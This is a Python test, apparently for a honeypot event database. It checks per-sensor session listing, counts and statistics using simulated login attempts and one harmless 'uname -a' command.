# -- a fleet (issue 20): several sensors in one database; filters and the sensors' list ------------------------------
def test_sessions_and_stats_by_sensor(repo: Repository, store: Callable[[list[Event]], DatabaseSink]) -> None:
    eu = Conn("bbbbbbbbbbb1", sensor="eu-1")
    eu2 = Conn("bbbbbbbbbbb2", sensor="eu-1", src_ip="198.51.100.9")
    us = Conn("bbbbbbbbbbb3", sensor="us-1")
    store(
        [
            eu(ev.SESSION_CONNECT, after_s=0),
            eu(ev.LOGIN_SUCCESS, username="root", password="x"),
            eu(ev.COMMAND_INPUT, input="uname -a", channel=0),
            eu(ev.SESSION_CLOSED, duration="3.0", duration_ms=3000, reason="client_closed"),
            eu2(ev.SESSION_CONNECT, after_s=5),
            eu2(ev.LOGIN_FAILED, username="admin", password="admin"),
            us(ev.SESSION_CONNECT, after_s=0),
            us(ev.LOGIN_FAILED, username="oracle", password="oracle"),
            us(ev.LOGIN_FAILED, username="oracle", password="123"),
        ]
    )
    assert {s.id for s in repo.list_sessions(sensor="eu-1")} == {"bbbbbbbbbbb1", "bbbbbbbbbbb2"}
    assert [s.id for s in repo.list_sessions(sensor="us-1")] == ["bbbbbbbbbbb3"]
    assert repo.list_sessions(sensor="nowhere") == [] and repo.count_sessions(sensor="eu-1") == 2
    assert repo.count_sessions() == 3
    us_stats = repo.stats(sensor="us-1")
    assert (us_stats.sessions, us_stats.auth_attempts, us_stats.commands) == (1, 2, 0)
    assert [c.value for c in us_stats.top_usernames] == ["oracle"]
    eu_stats = repo.stats(sensor="eu-1")
    assert (eu_stats.sessions, eu_stats.auth_attempts, eu_stats.commands) == (2, 2, 1)
    assert {c.value for c in eu_stats.top_src_ips} == {"203.0.113.7", "198.51.100.9"}
    assert repo.stats().auth_attempts == 4
    sensors = {s.sensor: s for s in repo.sensors()}
    assert list(sensors) == ["eu-1", "us-1"]
    assert (sensors["eu-1"].sessions, sensors["eu-1"].open_sessions, sensors["eu-1"].logins) == (2, 1, 1)
    assert (sensors["us-1"].sessions, sensors["us-1"].open_sessions, sensors["us-1"].logins) == (1, 1, 0)
    assert sensors["eu-1"].first_seen == T0 and sensors["eu-1"].last_seen == T0 + timedelta(
        seconds=5
    )  # a session began
